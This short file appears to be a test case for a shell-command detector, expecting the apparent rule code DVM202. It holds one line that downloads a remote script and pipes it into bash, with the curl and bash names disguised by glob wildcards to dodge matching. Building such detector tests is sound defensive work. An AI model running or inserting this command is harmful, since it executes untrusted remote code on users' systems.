# expect: DVM202
/usr/bin/c?rl -s https://x.example.org/i.sh | /bin/b*h
